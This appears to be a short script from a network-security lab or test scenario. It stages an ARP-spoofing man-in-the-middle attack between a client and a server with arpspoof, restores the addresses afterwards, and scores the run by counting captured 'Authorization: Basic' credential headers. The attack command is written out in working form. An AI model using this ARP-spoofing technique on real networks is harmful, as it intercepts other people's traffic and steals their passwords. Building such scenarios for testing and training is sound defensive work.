# Stand between the client and the server for a time.
await visited
phase spoof
mkfifo /root/spoof
arpspoof -i eth0 -t "$CLIENT_ADDRESS" -r "$SERVER_ADDRESS" >/root/spoof 2>&1 &
spoof=$!
# It says a line for each false answer, one to each of the two.
exec 3</root/spoof
read -r line <&3
read -r line <&3
cat <&3 >/root/said &
signal between
await over
# Both tell the right addresses before they end.
kill -INT $spoof
wait $spoof || true
signal gone
await end
outcome passwords="$(log reader | grep -c 'Authorization: Basic' || true)"
